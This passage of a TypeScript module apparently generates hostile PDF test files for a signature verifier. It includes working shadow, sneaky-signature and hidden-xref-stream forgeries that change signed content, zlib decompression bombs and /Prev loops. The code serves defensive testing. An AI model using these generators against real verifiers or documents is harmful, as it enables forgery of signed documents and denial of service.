      return revealShadowByDeletion(signed, shadowObjects.cover);
    case 'hide-and-replace':
      return appendRevision(signed, [{ num: page.num, body: swapContents(page.body, shadowObjects.shadow) }]);
    case 'replace':
      return replaceAssessment(signed);
  }
}

/**
 * Shadow "hide" by deletion: instead of redefining the white box, the update marks its object free in
 * the xref. Page 1 still names it; a reader resolves a free object to null and draws nothing, revealing
 * the signed but hidden FORGED_TEXT. The update writes no object at all, only an xref entry.
 */
export const revealShadowByDeletion = (signed: Buffer, cover: number) => appendRevision(signed, [], { free: [cover] });

/**
 * Sneaky signature attack (Mainka, Mladenov, Rohlmann, Schwenk, 2021): the update adds nothing but a
 * signature, but the signature's widget lies over page 1's title and its appearance stream paints a white
 * box and FORGED_TEXT there. Everything new belongs to a signature field, so a verifier that lets later
 * revisions add signature fields "with their appearances" calls the changed page unchanged.
 */
export function sneakySignature(signed: Buffer, makeCms: SignatureMaker, name: string): Promise<Buffer> {
  const size = lastTrailer(signed).size;
  const [font, appearance] = [size + 10, size + 11];
  return appendSignature(signed, makeCms, {
    name,
    widget: { rect: [30, 760, 565, 815], appearance },
    extraObjects: [
      { num: font, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
      {
        num: appearance,
        body: stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 535 55] /Resources << /Font << /F9 ${font} 0 R >> >>`,
          `1 1 1 rg 0 0 535 55 re f 0 0 0 rg BT /F9 18 Tf 10 20 Td (${FORGED_TEXT}) Tj ET`,
        ),
      },
    ],
  });
}

/**
 * An update hidden in a hybrid-reference trailer: its classic xref section lists no object, and its
 * trailer's /XRefStm names a cross-reference stream that redefines page 1's content. Readers that know
 * PDF 1.5 consult /XRefStm (poppler does) and show FORGED_TEXT; a verifier that reads only the classic
 * sections sees an update that changes nothing.
 */
export function hiddenInXRefStm(signed: Buffer): Buffer {
  const { root, info, size } = lastTrailer(signed);
  const prev = lastStartXref(signed);
  const objects = forgedPageObjects(signed);
  const out = new PdfWriter(signed);
  out.push('\n');
  for (const object of objects) out.object(object);
  const offsets = out.offsets;
  const xrefStream = Math.max(size, ...objects.map((object) => object.num + 1));
  const nums = [...offsets.keys()].sort((a, b) => a - b);
  const rows = Buffer.concat(
    nums.map((num) => {
      const row = Buffer.alloc(7);
      row[0] = 1;
      row.writeUInt32BE(offsets.get(num)!, 1);
      return row;
    }),
  );
  const xrefStreamAt = out.at;
  out.object({ num: xrefStream, body: stream(`/Type /XRef /Size ${xrefStream + 1} /W [1 4 2] /Index [${nums.map((num) => `${num} 1`).join(' ')}]`, rows) });
  const tableAt = out.at;
  out.push(`${xrefSection(new Map())}${trailerText(xrefStream + 1, root, info, prev, `/XRefStm ${xrefStreamAt}`)}startxref\n${tableAt}\n%%EOF\n`);
  return out.bytes();
}

/** Page 1's dictionary with its /Contents pointed at `shadow`. */
export const swapContents = (pageBody: string, shadow: number) => pageBody.replace(/\/Contents\s+(\d+\s+0\s+R|\[[^\]]*\])/, `/Contents ${shadow} 0 R`);

// ---------------------------------------------------------------------------------------------------
// 4: decompression bombs

const MiB = 1 << 20;

/** Adler-32 of `prefix` followed by `zeros` zero bytes. */
function adler32(prefix: Buffer, zeros: number): number {
  let a = 1;
  let b = 0;
  for (const byte of prefix) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  b = (b + (zeros % 65521) * a) % 65521;
  return ((b << 16) | a) >>> 0;
}

/**
 * A zlib stream that inflates to `prefix` and then `zeroMiB` mebibytes of zero bytes (NUL is white space in
 * PDF, so the inflated data is even well formed). Deflate compresses a run of zeros about 1000:1; one
 * mebibyte is compressed once with a full flush (no reference reaches back before it, and it ends on a byte
 * boundary) and repeated, so building a multi-gigabyte bomb costs nothing.
 */
export function zlibBomb(prefix: Buffer, zeroMiB: number): Buffer {
  const flush = { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH };
  const head = deflateRawSync(prefix, flush);
  const mebibyte = deflateRawSync(Buffer.alloc(MiB), flush);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32(prefix, zeroMiB * MiB));
  return Buffer.concat([Buffer.from([0x78, 0xda]), head, ...Array.from({ length: zeroMiB }, () => mebibyte), Buffer.from([0x03, 0x00]), checksum]);
}

/** How many mebibytes of zeros make a bomb of about `bytes` compressed bytes. */
function bombMiB(bytes: number): number {
  return Math.floor(bytes / deflateRawSync(Buffer.alloc(MiB), { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH }).length);
}

/** A complete PDF with a classic xref table from numbered objects. */
export function buildPdf(objects: readonly PdfObject[], root: number, version = '1.7'): Buffer {
  const out = new PdfWriter(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`);
  for (const object of objects) out.object(object);
  const size = Math.max(...objects.map((object) => object.num)) + 1;
  const xrefAt = out.at;
  out.push(`${xrefSection(out.offsets)}${trailerText(size, root, undefined, undefined)}startxref\n${xrefAt}\n%%EOF\n`);
  return out.bytes();
}

const bombPage: PdfObject[] = [
  { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
  { num: 3, body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>' },
  { num: 4, body: stream('', 'BT /F1 14 Tf 40 780 Td (Vendor risk assessment) Tj ET') },
  { num: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>' },
];

export const bombPlaces = ['embedded-file', 'object-stream', 'xref-stream'] as const;
export type BombPlace = (typeof bombPlaces)[number];

/**
 * Attack 4, decompression bombs: a file of about `bytes` (2.3 MB by default) with one Flate stream that
 * inflates to gigabytes, where a verifier must inflate to do its job:
 *
 * - "embedded-file": assessment.json, named in /Names /EmbeddedFiles; it claims /Params /Size 1234.
 * - "object-stream": an /ObjStm holding the catalog itself (found through an xref stream).
 * - "xref-stream": the cross-reference stream, whose first rows are right and then never end.
 *
 * A verifier must cap what it inflates (by the size it expects, or a limit) and must never inflate on the
 * main thread without a bound.
 */
export function decompressionBomb(place: BombPlace, bytes = 2_300_000): Buffer {
  const mib = bombMiB(bytes);
  if (place === 'embedded-file') {
    const bomb = zlibBomb(ascii('{"format":"assay-assessment","padding":"'), mib);
    return buildPdf(
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(assessment.json) 6 0 R] >> >> >>' },
        ...bombPage,
        { num: 6, body: '<< /Type /Filespec /F (assessment.json) /UF (assessment.json) /EF << /F 7 0 R >> >>' },
        { num: 7, body: stream('/Type /EmbeddedFile /Subtype /application#2Fjson /Filter /FlateDecode /Params << /Size 1234 >>', bomb) },
      ],
      1,
    );
  }
  return xrefStreamPdf(place, mib);
}

/**
 * A PDF 1.5 file whose only cross-reference is an xref stream (/W [1 4 2]): with the catalog in a bomb
 * object stream, or with the xref stream itself the bomb.
 */
function xrefStreamPdf(place: 'object-stream' | 'xref-stream', mib: number): Buffer {
  const out = new PdfWriter('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n');
  const write = (object: PdfObject) => out.object(object);
  const offsets = out.offsets;
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  for (const object of bombPage) write(object);
  if (place === 'object-stream') {
    const prefix = ascii(`1 0 ${catalog}\n`);
    write({ num: 6, body: stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zlibBomb(prefix, mib)) });
  } else {
    write({ num: 1, body: catalog });
  }
  const xrefNum = 7;
  const size = 8;
  const row = (type: number, field2: number, field3: number) => {
    const bytes = Buffer.alloc(7);
    bytes[0] = type;
    bytes.writeUInt32BE(field2, 1);
    bytes.writeUInt16BE(field3, 5);
    return bytes;
  };
  const xrefAt = out.at;
  const rows = Buffer.concat(
    Array.from({ length: size }, (_, num) => {
      if (num === xrefNum) return row(1, xrefAt, 0);
      if (num === 1 && place === 'object-stream') return row(2, 6, 0);
      const offset = offsets.get(num);
      return offset === undefined ? row(0, 0, num === 0 ? 0xffff : 0) : row(1, offset, 0);
    }),
  );
  const dict = `/Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R`;
  write({ num: xrefNum, body: place === 'xref-stream' ? stream(`${dict} /Filter /FlateDecode`, zlibBomb(rows, mib)) : stream(dict, rows) });
  out.push(`startxref\n${xrefAt}\n%%EOF\n`);
  return out.bytes();
}

// ---------------------------------------------------------------------------------------------------
// 9: odd files

/** A file of `length` bytes from a fixed-seed generator: no PDF header, nothing but noise. */
export function noise(length = 64 * 1024, seed = 0x5eed): Buffer {
  const out = Buffer.alloc(length);
  let state = seed >>> 0;
  for (let i = 0; i < length; i += 1) {
    // xorshift32
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    out[i] = state & 0xff;
  }
  return out;
}

/**
 * A /Prev loop in the xref chain, in an update appended to a signed file. "self": the update's trailer
 * names its own xref as /Prev. "pair": two updates whose trailers name each other. A verifier that walks
 * /Prev without remembering where it has been never ends.
 */
export function prevLoop(pdf: Buffer, variant: 'self' | 'pair'): Buffer {
  const objects = forgedPageObjects(pdf);
  if (variant === 'self') return appendRevision(pdf, objects, { prev: 'self' });
  const placeholder = '0000000000';
  const first = appendRevision(pdf, objects, { prev: placeholder });
  const firstXref = lastStartXref(first);
  const second = appendRevision(first, [], { prev: firstXref });
  const out = Buffer.from(second);
  const at = latin1(out).indexOf(`/Prev ${placeholder}`, pdf.length) + '/Prev '.length;
  out.write(pad10(lastStartXref(second)), at, 'latin1');
  return out;
}
